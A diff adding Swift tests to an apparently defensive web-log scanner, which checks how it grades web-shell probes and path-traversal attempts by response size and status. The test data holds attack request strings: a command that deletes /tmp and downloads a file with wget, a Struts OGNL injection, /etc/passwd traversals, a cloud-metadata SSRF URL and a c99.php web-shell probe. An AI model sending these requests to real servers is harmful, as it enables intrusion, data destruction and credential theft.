@@ -114,6 +114,44 @@ private func request(
     #expect(findings(WebRequests(artifact: artifact), [request("/f", query, status: 200)]).isEmpty)
   }
 
+  private func sized(_ path: String, _ query: String = "", status: Int64 = 200, size: Int64) -> Event {
+    var event = request(path, query, status: status)
+    event.attributes.append(Attribute("bytes", size))
+    return event
+  }
+
+  /// Every scanner's wish comes true: pages of one make, or that repeat what was asked for.
+  @Test func aSiteThatAnswersEverythingHasNoWebShell() {
+    let wishes = [
+      ("/shell.jsp", "cmd=whoami"), ("/setup.cgi", "cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/m"),
+      ("/struts2-showcase/${(#a=@java.lang.Runtime)}/i", ""), ("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", ""),
+      ("/download", "file=../../../../etc/passwd"), ("/proxy", "url=http://169.254.169.254/latest/meta-data/"),
+      ("/index.php", "s=<?php"),
+    ]
+    func grave(_ events: [Event]) -> Int {
+      findings(WebRequests(artifact: artifact), events).count { $0.severity >= .high }
+    }
+    let echo = wishes.enumerated().map { sized($0.element.0, $0.element.1, size: 900 + Int64($0.offset)) }
+    #expect(grave(echo) == 0)
+    // One that refuses what is not there had the shell.
+    #expect(grave(echo + [sized("/c99.php", status: 404, size: 90)]) >= 1)
+    #expect(grave(Array(echo.prefix(3))) == 1)
+  }
+
+  @Test func aFileFromOutsideTheRoot() {
+    let climb = "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd"
+    let refused = sized("/shell.jsp", status: 404, size: 90)
+    func severity(_ events: [Event]) -> Severity? {
+      findings(WebRequests(artifact: artifact), events).first { $0.rule == "web.path-traversal" }?.severity
+    }
+    #expect(severity([sized(climb, size: 1830), refused]) == .high)
+    // A page that is shown for whatever it does not know; nothing known of the site; a parameter; nothing in it.
+    #expect(severity([sized(climb, size: 1532), sized("/a/..%2f..%2fetc/passwd", size: 1532), refused]) == .medium)
+    #expect(severity([sized(climb, size: 1830)]) == .medium)
+    #expect(severity([sized("/x", "f=../../../../etc/passwd", size: 1830), refused]) == .medium)
+    #expect(severity([sized(climb, size: 0), refused]) == .medium)
+  }
+
   @Test(arguments: ["aws:alb:request", "aws:cloudfront:request"])
   func theRequestsOfWhatStandsInFrontAreJudgedToo(_ dataType: String) {
     let event = Event(
